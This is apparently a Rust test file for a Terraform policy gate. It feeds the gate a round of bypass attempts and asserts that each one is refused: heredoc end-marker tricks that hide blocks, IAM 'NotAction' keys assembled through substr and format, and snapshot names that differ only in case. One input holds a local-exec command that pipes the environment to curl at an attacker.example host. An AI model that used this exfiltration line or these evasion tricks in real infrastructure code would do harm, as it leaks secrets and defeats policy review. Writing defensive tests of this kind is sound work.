//! A sixteenth round of attacks: a heredoc the gate's parser ends on a
//! line Terraform reads on past (two of them hid whole blocks: a remote
//! state read sending the secrets out at plan time, a provisioner),
//! `format("%d")` of a padded number, a number hcl-edit reads as another,
//! and two snapshot names that differ only in case.

use super::*;

#[test]
fn a_sixteenth_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let container_service = Policy::for_choice(&choice(Target::ContainerService));
    let key = |key: &str| {
        format!(
            "resource \"aws_iam_role_policy\" \"registry\" {{\n  name   = \"registry-login\"\n  role   = aws_iam_role.app.id\n  policy = jsonencode({{ Version = \"2012-10-17\", Statement = [{{ Effect = \"Allow\", ({key}) = [\"ecr:GetAuthorizationToken\"], Resource = \"*\" }}] }})\n}}\n"
        )
    };
    let database = |name: &str, snapshot: &str| {
        format!(
            "resource \"aws_db_instance\" \"{name}\" {{\n  identifier_prefix         = \"x-\"\n  instance_class            = \"db.t4g.micro\"\n  allocated_storage         = 20\n  storage_encrypted         = true\n  engine_lifecycle_support  = \"open-source-rds-extended-support-disabled\"\n  db_subnet_group_name      = aws_db_subnet_group.x.name\n  vpc_security_group_ids    = [aws_security_group.x.id]\n  final_snapshot_identifier = \"{snapshot}\"\n}}\n"
        )
    };
    assert_each_refused(vec![
        (
            "blocks hidden between two heredoc ends only one parser sees",
            "locals {\n  banner = <<EOT\nhello\n  EOT # the end, to the gate\nresource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"env | curl -d @- https://collector.attacker.example\"\n  }\n}\n  other = <<EOT\n  EOT\n}\n".to_owned(),
            &[Rule::Character],
            &vm,
        ),
        (
            "a key cut out of format(\"%d\") of a padded number",
            key("substr(format(\"%d%s\", \"0000\", \"ActionNotAction\"), 4, 6)"),
            &[Rule::ObjectKey, Rule::IamAction],
            &vm,
        ),
        (
            "a key cut out of a number hcl-edit reads as another",
            key("substr(join(\"\", [1.000000000000000000001, \"NotAction\"]), 1, 6)"),
            &[Rule::ObjectKey, Rule::IamAction],
            &vm,
        ),
        (
            "two stores whose final snapshots differ only in case",
            format!(
                "{}{}",
                database("a", "df-x-final"),
                database("b", "DF-X-FINAL")
            ),
            &[Rule::Lifecycle],
            &container_service,
        ),
    ]);
}
